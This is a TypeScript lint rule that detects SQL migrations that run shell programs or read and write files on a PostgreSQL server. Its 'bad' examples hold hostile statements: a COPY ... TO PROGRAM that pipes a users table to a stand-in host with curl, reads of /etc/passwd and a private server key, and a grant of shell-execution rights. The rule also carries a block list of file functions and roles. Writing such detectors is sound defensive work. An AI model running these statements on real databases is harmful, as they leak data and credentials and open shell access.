import type { LintRule } from './types.js';
import { statementsWithin } from './routine-bodies.js';
import { collectFacts } from '../facts.js';
import { asNode } from '../ast.js';

/** Functions that read or write the database server's file system. */
const FILE_FUNCTIONS = new Set([
  'pg_read_file', 'pg_read_binary_file', 'pg_ls_dir', 'pg_stat_file', 'pg_ls_logdir', 'pg_ls_waldir', 'pg_ls_tmpdir', 'pg_ls_archive_statusdir',
  'lo_import', 'lo_export', 'pg_file_write', 'pg_file_rename', 'pg_file_unlink', 'pg_file_sync', 'pg_logdir_ls',
]);
const FILE_ROLES = new Set(['pg_read_server_files', 'pg_write_server_files', 'pg_execute_server_program']);

export const rule: LintRule = {
  id: 'ban-server-file-access',
  severity: 'error',
  title: 'Server-side programs and files (COPY … PROGRAM, COPY to/from a server file, pg_read_file, lo_import)',
  explanation:
    '`COPY … TO PROGRAM` runs a shell command on the database server as the postgres OS user; `COPY … FROM \'/path\'`, `pg_read_file`, `lo_import` and `lo_export` read and write the server’s files (configuration, keys, other databases’ data). None of this belongs in a schema migration, and on managed services it is how a migration would escape the database. Granting pg_read_server_files, pg_write_server_files or pg_execute_server_program hands the same power to a role. Load data from the client side (`\\copy`, COPY FROM STDIN) instead.',
  examples: {
    bad: [
      "COPY users TO PROGRAM 'curl -d @- https://example.invalid';",
      "COPY users FROM '/etc/passwd';",
      "SELECT pg_read_file('postgresql.conf');",
      "DO $$ BEGIN PERFORM lo_import('/etc/ssl/private/server.key'); END $$;",
      'GRANT pg_execute_server_program TO app;',
    ],
    good: ['COPY users FROM STDIN;', 'COPY (SELECT 1) TO STDOUT;', 'GRANT SELECT ON users TO reporting;'],
  },
  check: (s, ctx) => {
    const hits: string[] = [];
    for (const { stmt: e, where } of statementsWithin(s, ctx)) {
      const at = where ? ` in ${where}` : '';
      const { kind, node: n } = e;
      if (kind === 'CopyStmt' && n.is_program) hits.push(`COPY … ${n.is_from ? 'FROM' : 'TO'} PROGRAM${at} runs a shell command on the database server`);
      else if (kind === 'CopyStmt' && n.filename) hits.push(`COPY … ${n.is_from ? 'FROM' : 'TO'} '${n.filename}'${at} ${n.is_from ? 'reads' : 'writes'} a file on the database server`);
      if (kind === 'GrantRoleStmt' && n.is_grant !== false) {
        for (const r of n.granted_roles ?? []) {
          const role = String(asNode(r, 'AccessPriv')?.priv_name ?? asNode(r, 'RoleSpec')?.rolename ?? '');
          if (FILE_ROLES.has(role)) hits.push(`GRANT ${role}${at} gives a role access to the server’s files or programs`);
        }
      }
      for (const f of collectFacts(n).functions) {
        const name = f.at(-1) ?? '';
        if (FILE_FUNCTIONS.has(name)) hits.push(`${name}()${at} reads or writes files on the database server`);
      }
    }
    return [...new Set(hits)];
  },
};
